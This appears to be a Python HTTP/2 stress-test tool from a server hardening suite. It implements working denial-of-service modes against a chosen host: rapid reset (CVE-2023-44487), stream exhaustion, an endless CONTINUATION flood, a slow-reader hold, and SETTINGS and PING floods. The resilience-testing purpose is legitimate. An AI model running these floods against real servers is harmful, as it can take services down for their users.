#!/usr/bin/python3
"""h2abuse.py - HTTP/2 abuse a server's client-facing side must survive.

  h2abuse.py MODE --host H --port P --sni NAME --ca FILE [--path /]
             [--count N] [--seconds S] [--path2 PATH]

Modes (each one connection unless said otherwise):
  rapid-reset   COUNT pairs of HEADERS + RST_STREAM(CANCEL) (CVE-2023-44487)
  streams       COUNT streams opened (a POST whose body never comes), as many
                at a time as the server's SETTINGS_MAX_CONCURRENT_STREAMS
                allows (at most 100), then reset, batch after batch
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames full
                of fields, for SECONDS or until the server stops it
  slow-reader   a GET of PATH with SETTINGS_INITIAL_WINDOW_SIZE 0 that is
                never read, held SECONDS, while a second connection GETs
                PATH2 every 0.2 s
  settings      COUNT SETTINGS frames, written without reading the ACKs
  ping          COUNT PING frames, written without reading the ACKs

Prints one JSON line saying what the server did: frames and bytes sent,
"seconds" it took, "goaway" (the first GOAWAY's code, or null), "closed"
(the server closed the connection), "send_blocked" (the server stopped
reading), "answers" (responses received) and the mode's own figures.  A lab
test measures the server around it (RSS, CPU) and serves other clients
meanwhile; the exit status is 0 unless the tool itself could not run.
"""

import argparse
import json
import socket
import sys
import time

from h2conform import (CANCEL, CONTINUATION, F_END_STREAM, HEADERS, RST_STREAM,
                       S_INITIAL_WINDOW_SIZE, S_MAX_CONCURRENT_STREAMS, Closed, Conn,
                       PingFrame, RstStreamFrame, SettingsFrame, hpack_int, raw_frame)


class Abuse:
    """One abusive connection and what the server did to it."""

    def __init__(self, opts, settings=None):
        self.c = Conn(opts)
        self.c.case_id = "h2abuse-" + opts.mode
        self.c.handshake(settings)
        self.sent = 0
        self.sent_bytes = 0
        self.blocked = False
        self.closed = False

    def send(self, frames):
        """Writes FRAMES (bytes) unless the server stopped reading us or
        closed; returns False then."""
        if self.blocked or self.closed:
            return False
        data = b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames)
        self.c.sock.settimeout(5)
        try:
            self.c.sock.sendall(data)
        except (socket.timeout, TimeoutError):
            self.blocked = True
            return False
        except OSError:
            self.closed = True
            return False
        self.sent += len(frames)
        self.sent_bytes += len(data)
        return True

    def drain(self, seconds=0.001):
        """Reads what the server sent within SECONDS; False once closed."""
        deadline = time.monotonic() + seconds
        try:
            while not self.closed and self.c.frame(deadline) is not None:
                pass
        except Closed:
            self.closed = True
        except OSError:
            self.closed = True
        return not self.closed

    def goaway(self):
        for e in self.c.events:
            if e.startswith("GOAWAY"):
                return e.split()[1]
        return None

    def report(self, mode, t0, **extra):
        self.drain(1.0)
        return dict(mode=mode, sent=self.sent, sent_bytes=self.sent_bytes,
                    seconds=round(time.monotonic() - t0, 3), goaway=self.goaway(),
                    closed=self.closed, send_blocked=self.blocked,
                    answers=len(self.c.responses), bytes_in=self.c.bytes_in, **extra)


def rapid_reset(opts):
    a = Abuse(opts)
    t0 = time.monotonic()
    c = a.c
    for lo in range(0, opts.count, 100):
        frames = []
        for _ in range(min(100, opts.count - lo)):
            sid = c.sid()
            frames += [c.headers(sid, c.request()),
                       RstStreamFrame(sid, error_code=CANCEL)]
        if not a.send(frames) or not a.drain():
            break
    return a.report("rapid-reset", t0, streams=(c.next_id - 1) // 2)


def streams(opts):
    a = Abuse(opts)
    t0 = time.monotonic()
    c = a.c
    batch = min(100, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, 100))
    opened = 0
    while opened < opts.count:
        sids = [c.sid() for _ in range(min(batch, opts.count - opened))]
        if not a.send([c.headers(s, c.request(method="POST"), end_stream=False)
                       for s in sids]) or not a.drain(0.05):
            break
        opened += len(sids)
        if not a.send([RstStreamFrame(s, error_code=CANCEL) for s in sids]) or not a.drain():
            break
    return a.report("streams", t0, opened=opened)


def continuation(opts):
    a = Abuse(opts)
    t0 = time.monotonic()
    c = a.c
    sid = c.sid()
    block = c.enc.encode(c.request())
    # Fields of 1000 bytes, literal without indexing: the block grows
    # without bound and never ends.
    field = b"\x00" + hpack_int(3, 7) + b"x-c" + hpack_int(1000, 7) + b"c" * 1000
    a.send([raw_frame(HEADERS, F_END_STREAM, sid, block)])
    while time.monotonic() - t0 < opts.seconds:
        if not a.send([raw_frame(CONTINUATION, 0, sid, field * 16)] * 16) or not a.drain():
            break
    return a.report("continuation", t0)


def slow_reader(opts):
    a = Abuse(opts, settings={S_INITIAL_WINDOW_SIZE: 0})
    t0 = time.monotonic()
    c = a.c
    c.auto_window = False
    sid = c.sid()
    a.send([c.headers(sid, c.request())])
    a.drain(2.0)
    status = dict(c.responses.get(sid, [])).get(":status")
    other = Conn(opts)
    other.handshake()
    ok = failed = 0
    worst = 0.0
    while time.monotonic() - t0 < opts.seconds:
        s = other.sid()
        t = time.monotonic()
        other.send(other.headers(s, other.request(path=opts.path2)))
        if wait_answer(other, s):
            ok += 1
        else:
            failed += 1
        worst = max(worst, time.monotonic() - t)
        time.sleep(0.2)
    other.close()
    return a.report("slow-reader", t0, slow_status=status, other_ok=ok, other_failed=failed,
                    other_worst_ms=round(worst * 1000))


def wait_answer(c, sid, timeout=10):
    """True once stream SID's response has ended, within TIMEOUT seconds."""
    deadline = time.monotonic() + timeout
    try:
        while True:
            f = c.frame(deadline)
            if f is None:
                return False
            if f.stream_id == sid and "END_STREAM" in f.flags:
                return sid in c.responses
            if f.stream_id == sid and f.type == RST_STREAM:
                return False
    except Closed:
        return False


def flood(opts, mode, make):
    a = Abuse(opts)
    t0 = time.monotonic()
    for lo in range(0, opts.count, 1000):
        if not a.send([make(i) for i in range(lo, min(opts.count, lo + 1000))]):
            break
    return a.report(mode, t0)


MODES = {
    "rapid-reset": rapid_reset,
    "streams": streams,
    "continuation": continuation,
    "slow-reader": slow_reader,
    "settings": lambda o: flood(o, "settings", lambda i: SettingsFrame(0, settings={})),
    "ping": lambda o: flood(o, "ping", lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("mode", choices=sorted(MODES))
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=443)
    ap.add_argument("--sni", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--path", default="/")
    ap.add_argument("--path2", default=None, help="slow-reader: the other connection's path")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--timeout", type=float, default=5.0)
    opts = ap.parse_args()
    opts.path2 = opts.path2 or opts.path
    try:
        print(json.dumps(MODES[opts.mode](opts)))
    except Exception as e:
        print("h2abuse: %s: %s: %s" % (opts.mode, type(e).__name__, e), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
